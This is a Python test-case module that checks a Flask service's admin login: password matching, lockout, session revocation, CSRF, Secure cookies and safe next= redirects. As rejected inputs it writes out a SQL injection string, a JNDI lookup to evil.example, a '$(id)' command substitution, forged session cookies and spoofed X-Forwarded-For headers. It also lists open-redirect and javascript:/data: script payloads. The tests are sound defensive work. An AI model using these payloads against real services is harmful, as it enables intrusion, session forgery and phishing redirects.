"""Category 4 — admin authentication, to the issue's words: "Any password string works (compare UTF-8
bytes in constant time); lockout with exponential back-off both per address and globally;
server-side session revocation on logout and password change; Secure cookies whenever the request
is HTTPS as seen through the trusted proxy; next= only to same-origin paths."

Every case runs on an app of its own (lockouts and sessions never leak between cases), with the
password PASSWORD unless its `config` says otherwise; the trusted proxy is 127.0.0.2. `@PW@` is
the case's password. The UI logs in with the form (and its CSRF token), scripts with
`Authorization: Bearer`.
"""
from __future__ import annotations

import time

from flask import Flask
from flask.sessions import SecureCookieSessionInterface

from .checks import (
    held_back_within,
    location_has,
    location_same_origin,
    refused_as_logged_out,
    retry_after,
    session_cookie,
)
from .model import BAD, LIMITED, REDIRECT, Req, bearer, case, form, get, one, restart, step

CAT = "admin-auth"
PASSWORD = "korrekt-hast-batteri-häftklammer"
UNAUTHORIZED = (401,)
NOT_FOUND = (404,)
CACHE = "/api/v1/admin/cache"
LOCKED = (401, 429)  # while failing: wrong, or already held back


def _login(password: str = "@PW@", status=REDIRECT, checks=(), **kw):
    """The login page (for its CSRF token), then the form; `checks` look at the form's answer."""
    return (step(get("/admin/login", **kw), 200),
            step(form("/admin/login", {"password": password}, **kw), status, checks=checks))


def _wrong_form(id: str, password: str, status=UNAUTHORIZED):
    return case(id, CAT, *_login(password, status), step(get("/admin/"), REDIRECT, checks=(location_has("/admin/login"),)))


def _wrong_bearer(id: str, token: str | bytes, status=UNAUTHORIZED):
    return one(id, CAT, get(CACHE, headers=bearer(token)), status, ("not_authenticated", "malformed"))


def _works(id: str, password: str, utf8_bearer: bool = True):
    """A password the operator chose works in the form and, sent as UTF-8, as a bearer token."""
    token = password.encode("utf-8") if utf8_bearer else password
    return case(id, CAT, *_login(), step(get("/admin/"), 200), step(get(CACHE, headers=bearer(token), cookies=None), 200),
                config={"ADMIN_PASSWORD": password})


def _next(id: str, next_: str):
    """After a good login the service sends the browser only to one of its own paths."""
    return case(id, CAT, step(get("/admin/login", query={"next": next_}), 200),
                step(form("/admin/login", {"password": "@PW@", "next": next_}), REDIRECT,
                     checks=(location_same_origin(),)),
                step(get("/admin/login", query={"next": next_}), REDIRECT, checks=(location_same_origin(),)))


def _foreign_session() -> str:
    """A session cookie that claims to be logged in, signed with a key that is not the service's."""
    app = Flask("foreign")
    app.secret_key = "not-the-service-key"
    serializer = SecureCookieSessionInterface().get_signing_serializer(app)
    return serializer.dumps({"admin": True, "tag": "0" * 32, "since": time.time(), "csrf": "x"})


WRONG = {
    "empty": "", "space": " ", "prefix": "korrekt", "trailing-space": PASSWORD + " ", "leading-space": " " + PASSWORD,
    "upper-case": PASSWORD.upper(), "nul-appended": PASSWORD + "\x00", "newline-appended": PASSWORD + "\n",
    "zero-width-inside": "korrekt\u200b-hast-batteri-häftklammer", "cyrillic-o": "k\u043errekt-hast-batteri-häftklammer",
    "sql": "' OR '1'='1", "format": "%s%s%n{0}",
    "jndi": "${jndi:ldap://evil.example/a}", "lone-surrogate": "\ud800",
    "latin1-mojibake": PASSWORD.encode().decode("latin-1"),
    "hundred-kilobytes": "x" * 100_000,
}
WRONG_TOKENS = {
    "empty": "", "prefix": "korrekt", "upper-case": PASSWORD.upper(), "suffix-comma": PASSWORD + ",",
    "two-tokens": PASSWORD + " extra", "invalid-utf8": b"korrekt-hast-batteri-h\xff\xfeftklammer",
    "sixty-kilobytes": "x" * 60_000,
}

CASES = [
    # -- any wrong password is wrong, however it is spelled -------------------------------------------
    *[_wrong_form(f"form-wrong-{name}", pw, UNAUTHORIZED + ((413,) if len(pw) > 1000 else ()))
      for name, pw in WRONG.items()],
    *[_wrong_bearer(f"bearer-wrong-{name}", token, UNAUTHORIZED + ((400, 431) if len(token) > 1000 else ()))
      for name, token in WRONG_TOKENS.items()],
    one("bearer-basic-scheme", CAT, get(CACHE, headers={"Authorization": "Basic YWRtaW46a29ycmVrdA=="}), UNAUTHORIZED),
    one("bearer-token-scheme", CAT, get(CACHE, headers={"Authorization": "Token @PW@"}), UNAUTHORIZED),
    one("bearer-no-space", CAT, get(CACHE, headers={"Authorization": "Bearer@PW@"}), UNAUTHORIZED),
    one("bearer-scheme-only", CAT, get(CACHE, headers={"Authorization": "Bearer"}), UNAUTHORIZED),
    one("bearer-in-the-query", CAT, get(CACHE, query={"access_token": "@PW@", "password": "@PW@"}), UNAUTHORIZED),
    one("bearer-in-another-header", CAT, get(CACHE, headers={"X-Api-Key": "@PW@", "Proxy-Authorization": "Bearer @PW@"}),
        UNAUTHORIZED),
    one("bearer-lower-case-scheme", CAT, get(CACHE, headers={"Authorization": "bearer @PW@"}), 200),
    case("form-password-in-the-query", CAT, step(get("/admin/login"), 200),
         step(Req("POST", "/admin/login", query={"password": "@PW@"}, form={}, csrf=True), UNAUTHORIZED)),
    # -- any password the operator chose works ----------------------------------------------------------
    _works("password-ascii", "enkelt-lösenord".replace("ö", "o")),
    _works("password-swedish", "lösenord-för-åäö"),
    _works("password-emoji-and-cjk", "nyckel-😀-鍵-ключ"),
    _works("password-url-syntax", "a:b%20c+d&e=f;g,h#i?j"),
    _works("password-quotes-and-backslash", "\"'\\`$(id)"),
    _works("password-long", "långt-" * 200),
    case("password-spaces-around-in-the-form", CAT, *_login(), step(get("/admin/"), 200),
         config={"ADMIN_PASSWORD": "  mellanslag runt om  "}),
    # The same password in another spelling of the same characters is the same password: Unicode
    # normalization (NFC, as RFC 8265 prescribes for passwords: "ä" typed as a + combining
    # diaeresis), and a Bearer header sent in ISO-8859-1, as some HTTP clients encode headers.
    case("password-decomposed-in-the-form", CAT, *_login("korrekt-hast-batteri-ha\u0308ftklammer"),
         step(get("/admin/"), 200)),
    one("password-decomposed-as-bearer", CAT,
        get(CACHE, headers=bearer("korrekt-hast-batteri-ha\u0308ftklammer".encode())), 200),
    one("password-latin1-bearer", CAT, get(CACHE, headers=bearer(PASSWORD.encode("latin-1"))), 200),
    # -- lockout: per address, shared by the form and the API, and global ---------------------------------
    case("lockout-form", CAT, *[s for _ in range(10) for s in _login("fel", LOCKED)],
         *_login(status=LIMITED)),
    case("lockout-bearer", CAT, *[step(get(CACHE, headers=bearer("fel")), LOCKED) for _ in range(10)],
         step(get(CACHE, headers=bearer("@PW@")), LIMITED, "locked_out")),
    case("lockout-says-when-to-come-back", CAT, *[step(get(CACHE, headers=bearer("fel")), LOCKED) for _ in range(10)],
         step(get(CACHE, headers=bearer("@PW@")), LIMITED), checks=(retry_after(),)),
    case("lockout-shared-by-form-and-api", CAT,
         *[s for _ in range(5) for s in _login("fel", LOCKED)],
         *[step(get(CACHE, headers=bearer("fel")), LOCKED) for _ in range(5)],
         *_login(status=LIMITED)),
    case("lockout-forged-x-forwarded-for", CAT,
         *[step(get(CACHE, headers={**dict(bearer("fel")), "X-Forwarded-For": f"203.0.113.{i}"}), LOCKED)
           for i in range(10)],
         step(get(CACHE, headers={**dict(bearer("@PW@")), "X-Forwarded-For": "203.0.113.99"}), LIMITED)),
    case("lockout-behind-the-proxy-holds-the-visitor", CAT,
         *[step(get(CACHE, headers={**dict(bearer("fel")), "X-Forwarded-For": "203.0.113.5"}, peer="proxy"), LOCKED)
           for _ in range(10)],
         step(get(CACHE, headers={**dict(bearer("@PW@")), "X-Forwarded-For": "203.0.113.5"}, peer="proxy"), LIMITED)),
    case("lockout-behind-the-proxy-spares-another-visitor", CAT,
         *[step(get(CACHE, headers={**dict(bearer("fel")), "X-Forwarded-For": "203.0.113.6"}, peer="proxy"),
                UNAUTHORIZED + LIMITED) for _ in range(3)],
         step(get(CACHE, headers={**dict(bearer("@PW@")), "X-Forwarded-For": "203.0.113.7"}, peer="proxy"), 200)),
    case("lockout-global-many-addresses", CAT,
         checks=(held_back_within(get(CACHE, headers=bearer("gissning"), peer="fresh"), 300, LOCKED),),
         why="300 guesses from 300 addresses: the global back-off must begin somewhere among them"),
    case("lockout-wrong-while-locked-is-not-told-apart", CAT,
         *[step(get(CACHE, headers=bearer("fel")), LOCKED) for _ in range(10)],
         step(get(CACHE, headers=bearer("fel")), LIMITED), step(get(CACHE, headers=bearer("@PW@")), LIMITED)),
    # -- sessions: revoked on logout and on a password change --------------------------------------------
    case("logout-revokes-the-session", CAT, *_login(save_cookies="logged-in"), step(get("/admin/"), 200),
         step(form("/admin/logout", {}), REDIRECT),
         step(get("/admin/", cookies="logged-in"), REDIRECT, checks=(location_has("/admin/login"),))),
    case("logout-revokes-the-session-for-posts", CAT, *_login(save_cookies="logged-in"), step(get("/admin/lexicon"), 200),
         step(form("/admin/logout", {}), REDIRECT),
         step(form("/admin/lexicon", {"written": "Nyköping", "spoken": "Nyschöping"}, cookies="logged-in"),
              (401, 302, 303), checks=(refused_as_logged_out(),))),
    case("password-change-revokes-sessions", CAT, *_login(save_cookies="old"), step(get("/admin/"), 200),
         step(restart(ADMIN_PASSWORD="ett-nytt-losenord"), 200),
         step(get("/admin/", cookies="old"), REDIRECT, checks=(location_has("/admin/login"),)),
         step(get(CACHE, headers=bearer("@PW@"), cookies=None), UNAUTHORIZED),
         step(get(CACHE, headers=bearer("ett-nytt-losenord"), cookies=None), 200)),
    case("password-removed-closes-the-admin", CAT, *_login(save_cookies="old"),
         step(restart(ADMIN_PASSWORD=None), 200),
         step(get("/admin/", cookies="old"), NOT_FOUND), step(get(CACHE, headers=bearer("@PW@")), NOT_FOUND)),
    one("forged-session-other-key", CAT, get("/admin/", headers={"Cookie": f"session={_foreign_session()}"}, cookies=None),
        REDIRECT, checks=(location_has("/admin/login"),)),
    one("forged-session-unsigned", CAT, get("/admin/", headers={"Cookie": "session=eyJhZG1pbiI6dHJ1ZX0"}, cookies=None),
        REDIRECT, checks=(location_has("/admin/login"),)),
    one("forged-session-garbage", CAT, get("/admin/", headers={"Cookie": "session=" + "A" * 5000}, cookies=None),
        REDIRECT, checks=(location_has("/admin/login"),)),
    case("session-cookie-is-not-an-api-key", CAT, *_login(), step(get(CACHE), UNAUTHORIZED)),
    # -- CSRF ------------------------------------------------------------------------------------------------
    one("login-without-csrf", CAT, form("/admin/login", {"password": "@PW@"}, csrf=False), BAD, "stale_form"),
    case("logout-without-csrf", CAT, *_login(), step(form("/admin/logout", {}, csrf=False), BAD)),
    case("csrf-of-another-session", CAT, step(get("/admin/login", peer="fresh", cookies=None), 200),
         step(form("/admin/login", {"password": "@PW@"}), BAD)),
    # -- Secure cookies when https as the trusted proxy sees it ------------------------------------------------
    case("cookie-secure-behind-https-proxy", CAT,
         *_login(peer="proxy", headers={"X-Forwarded-Proto": "https", "X-Forwarded-For": "203.0.113.20"},
                 checks=(session_cookie(secure=True),))),
    case("cookie-plain-over-http", CAT, *_login(checks=(session_cookie(secure=False),))),
    case("cookie-forged-https-from-a-visitor", CAT,
         *_login(headers={"X-Forwarded-Proto": "https"}, checks=(session_cookie(secure=False),)),
         step(get("/admin/"), 200)),
    # -- no admin without a password ---------------------------------------------------------------------------
    *[one(f"no-admin-{how}-{name}", CAT, req, NOT_FOUND, config={"ADMIN_PASSWORD": value})
      for how, value in (("unset", None), ("empty", "")) for name, req in [
          ("ui", get("/admin/")), ("login", form("/admin/login", {"password": ""}, csrf=False)),
          ("api", get(CACHE, headers=bearer(""))), ("api-none", get(CACHE, headers=bearer("None")))]],
    # -- next= only to the service's own paths --------------------------------------------------------------------
    *[_next(f"next-{name}", value) for name, value in {
        "scheme-relative": "//evil.example/", "triple-slash": "///evil.example/", "backslash": "/\\evil.example",
        "two-backslashes": "\\\\evil.example", "absolute": "https://evil.example/admin",
        "scheme-no-slashes": "http:evil.example",
        "javascript": "javascript:alert(document.domain)", "data": "data:text/html,<script>alert(1)</script>",
        "leading-space": " //evil.example", "leading-tab": "\t//evil.example", "at-sign": "/admin@evil.example",
        "dot-segments": "/admin/../..//evil.example", "encoded-slashes": "%2F%2Fevil.example", "admin-prefix-host":
        "/admin.evil.example", "userinfo": "https://lyssna@evil.example/", "same-host-other-port": "http://@SERVICEHOST@:1/",
    }.items()],
]
